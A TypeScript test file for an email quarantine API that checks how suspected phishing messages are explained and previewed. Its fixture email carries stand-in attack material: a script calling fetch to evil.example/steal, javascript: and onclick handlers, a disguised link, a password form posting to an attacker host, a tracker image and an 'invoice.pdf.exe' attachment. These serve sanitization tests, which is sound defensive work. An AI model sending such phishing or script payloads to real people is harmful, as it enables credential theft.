import MailComposer from "nodemailer/lib/mail-composer";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { auditEvents, startSelfServiceFixture, type SelfServiceFixture } from "./support";

let f: SelfServiceFixture;
let agent: Awaited<ReturnType<SelfServiceFixture["user"]>>;
let heldId: string;

const PIXEL_PNG = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);

async function hostileMessage(to: string): Promise<Buffer> {
  const composer = new MailComposer({
    from: "IT Desk <it@helpdesk-login.example>",
    to,
    cc: "team@example.com",
    subject: "Password expires today",
    messageId: "<hostile-1@helpdesk-login.example>",
    headers: {
      "Authentication-Results":
        "mx.example.com; spf=fail smtp.mailfrom=helpdesk-login.example; dkim=none; dmarc=fail header.from=helpdesk-login.example",
    },
    text: "Keep your password at https://login.evil.example/reset",
    html: [
      '<p onclick="alert(1)">Dear user,</p>',
      "<script>fetch('https://evil.example/steal')</script>",
      '<a href="https://login.evil.example/reset">https://portal.office.com</a>',
      '<a href="javascript:alert(2)">click</a>',
      '<img src="https://tracker.example/banner.png" width="300" height="100">',
      '<img src="cid:logo@x">',
      '<form action="https://evil.example"><input name="pw"></form>',
    ].join("\n"),
    attachments: [
      {
        filename: "invoice.pdf.exe",
        content: Buffer.from("MZ fake"),
        contentType: "application/octet-stream",
      },
      { filename: "logo.png", content: PIXEL_PNG, contentType: "image/png", cid: "logo@x" },
    ],
  });
  return composer.compile().build();
}

beforeAll(async () => {
  f = await startSelfServiceFixture();
  agent = await f.user();
  const held = await f.held({
    userId: agent.id,
    recipient: agent.email,
    raw: await hostileMessage(agent.email),
    reason: "phish",
    signals: [
      {
        id: "auth.dmarc_fail",
        label: "The sender's domain says this message is not theirs (DMARC failed).",
        weight: 4,
        detail: "p=reject",
      },
      { id: "url.text_mismatch", label: "A link shows one address but goes to another.", weight: 3 },
      { id: "auth.dkim_pass", label: "Signed", weight: -1 },
    ],
  });
  heldId = held.id;
});
afterAll(async () => {
  await f?.server.stop();
});

describe("GET /api/held/:id", () => {
  it("explains the hold in plain words, strongest signal first, and lists headers, auth results and attachments", async () => {
    const res = await agent.client.request("GET", `/api/held/${heldId}`);
    expect(res.status).toBe(200);
    expect(res.json).toMatchObject({
      id: heldId,
      reason: "phish",
      messageId: "<hostile-1@helpdesk-login.example>",
      cc: ["team@example.com"],
    });
    expect(res.json.signals).toEqual([
      {
        name: "auth.dmarc_fail",
        score: 4,
        detail: "p=reject",
        label: "The sender's domain says this message is not theirs (DMARC failed).",
      },
      { name: "url.text_mismatch", score: 3, label: "A link shows one address but goes to another." },
    ]);
    expect(res.json.auth).toEqual({ spf: "fail", dkim: "none", dmarc: "fail", arc: "none" });
    const headers = res.json.headers as Array<{ name: string; value: string }>;
    expect(headers.find((h) => h.name === "subject")?.value).toBe("Password expires today");
    expect(res.json.attachments).toEqual([
      { filename: "invoice.pdf.exe", contentType: "application/octet-stream", size: 7 },
    ]);
  });

  it("serves a sanitized preview: no script, no handlers, no javascript: links, no forms, remote images blocked, links with real targets", async () => {
    const res = await agent.client.request("GET", `/api/held/${heldId}`);
    const html = String(res.json.html);
    // The sanitized body alone: the preview route wraps it in its document (a second document would nest).
    expect(html).not.toMatch(/<html|<head|<meta/i);
    expect(html).not.toMatch(/<script|onclick|javascript:|<form|<input|\ssrc="https:\/\/tracker/i);
    expect(html).toContain('data-mw-blocked="remote"');
    expect(html).toContain("data:image/png;base64,");
    expect(res.json.remoteImagesBlocked).toBe(true);
    expect(res.json.links).toEqual([
      { text: "https://portal.office.com", href: "https://login.evil.example/reset" },
    ]);
  });

  it("shows remote images only when asked (?images=1)", async () => {
    const res = await agent.client.request("GET", `/api/held/${heldId}?images=1`);
    expect(res.json.remoteImagesBlocked).toBe(false);
    expect(String(res.json.html)).toContain('src="https://tracker.example/banner.png"');
  });

  it("answers 404 for someone else's message and for an unknown id", async () => {
    const other = await f.user();
    expect((await other.client.request("GET", `/api/held/${heldId}`)).status).toBe(404);
    expect((await agent.client.request("GET", "/api/held/00000000-0000-4000-8000-000000000000")).status).toBe(
      404,
    );
  });

  it("audits a security admin looking at someone else's held message", async () => {
    const admin = await f.user({ roles: ["security_admin"] });
    expect((await admin.client.request("GET", `/api/held/${heldId}`)).status).toBe(200);
    const events = await auditEvents(f.db, f.tenantId, "held.view_other");
    expect(events.some((e) => e.target_id === heldId)).toBe(true);
  });

  it("lists every attachment the preview does not show, also one marked inline with a Content-ID", async () => {
    // Only an inline image the body really embeds is shown; anything else named "inline" must stay listed, or
    // the person deciding on a release never sees the executable riding along (nor one borrowing the logo's id).
    const raw = await new MailComposer({
      from: "Billing <billing@invoices.example>",
      to: agent.email,
      subject: "Invoice",
      html: '<p>See the invoice.</p><img src="cid:logo@x">',
      attachments: [
        { filename: "logo.png", content: PIXEL_PNG, contentType: "image/png", cid: "logo@x" },
        {
          filename: "invoice.exe",
          content: Buffer.from("MZ fake"),
          contentType: "application/octet-stream",
          cid: "doc@x",
          contentDisposition: "inline",
        },
        {
          filename: "twin.exe",
          content: Buffer.from("MZ fake"),
          contentType: "application/octet-stream",
          cid: "logo@x",
          contentDisposition: "inline",
        },
        { filename: "unused.png", content: PIXEL_PNG, contentType: "image/png", cid: "unused@x" },
      ],
    })
      .compile()
      .build();
    const held = await f.held({ userId: agent.id, recipient: agent.email, raw, reason: "phish" });
    const res = await agent.client.request("GET", `/api/held/${held.id}`);
    expect(res.status).toBe(200);
    expect(String(res.json.html)).toContain("data:image/png;base64,");
    expect((res.json.attachments as Array<{ filename: string }>).map((a) => a.filename)).toEqual([
      "invoice.exe",
      "twin.exe",
      "unused.png",
    ]);
  });
});

describe("GET /api/held/:id/preview", () => {
  it("serves the preview document with a strict CSP and sandbox header", async () => {
    const res = await agent.client.request("GET", `/api/held/${heldId}/preview`);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toContain("text/html");
    const csp = res.headers.get("content-security-policy") ?? "";
    expect(csp).toContain("default-src 'none'");
    expect(csp).toContain("sandbox");
    expect(res.text).not.toMatch(/<script/i);
  });
});
